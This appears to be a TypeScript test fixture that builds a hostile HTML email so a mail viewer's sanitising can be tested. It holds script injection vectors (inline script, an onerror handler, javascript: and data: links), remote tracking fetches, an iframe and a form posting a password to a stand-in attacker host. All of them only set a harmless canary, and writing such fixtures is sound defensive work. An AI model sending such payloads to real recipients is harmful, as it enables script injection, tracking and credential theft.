// An HTML mail that tries everything a hostile sender would: a script setting a canary global, an
// onerror handler, javascript: and data: links, a form posting elsewhere, CSS that fetches, a remote
// image (a read receipt), and an iframe. Showing it safely means none of that runs or loads. Each
// script sets the canary twice: a global (`window.pwned`) and an attribute on the document
// (`data-pwned`), which a test can see from outside even in a frame that runs no script of its own.
import { randomBytes } from 'node:crypto';

export const REMOTE_IMAGE = 'http://198.51.100.7/x.png';

export const HOSTILE_HTML = `<html><head><style>body { background: url(http://198.51.100.7/bg.png) }</style>
<script>window.pwned = 1; document.documentElement.setAttribute('data-pwned', '1')</script></head><body>
<p style="color: #0b5cad; background-image: url(http://198.51.100.7/css.png)">Dear support, the <b onclick="window.pwned = 1">invoice</b> is wrong.</p>
<img src="${REMOTE_IMAGE}" alt="tracking pixel" onerror="window.pwned = 1; document.documentElement.setAttribute('data-pwned', '1')">
<a href="javascript:window.pwned=1">click me</a> <a href="data:text/html,<script>window.pwned=1</script>">or me</a>
<form action="http://198.51.100.7/steal" method="post"><input name="password" value="x"><button>Send</button></form>
<iframe src="http://198.51.100.7/frame"></iframe>
<p>Kind regards, Mallory</p></body></html>`;

export function hostileMessage(subject = 'Hostile HTML'): Buffer {
  const boundary = 'alt_' + randomBytes(6).toString('hex');
  return Buffer.from(
    [
      'From: Mallory <mallory@example.net>',
      'To: support@mailbind.test',
      `Subject: ${subject}`,
      'Date: Tue, 24 Nov 2026 10:00:00 +0000',
      `Message-ID: <${randomBytes(8).toString('hex')}@example.net>`,
      'MIME-Version: 1.0',
      `Content-Type: multipart/alternative; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Dear support, the invoice is wrong. Kind regards, Mallory',
      `--${boundary}`,
      'Content-Type: text/html; charset=utf-8',
      '',
      HOSTILE_HTML,
      `--${boundary}--`,
      '',
    ].join('\r\n'),
  );
}
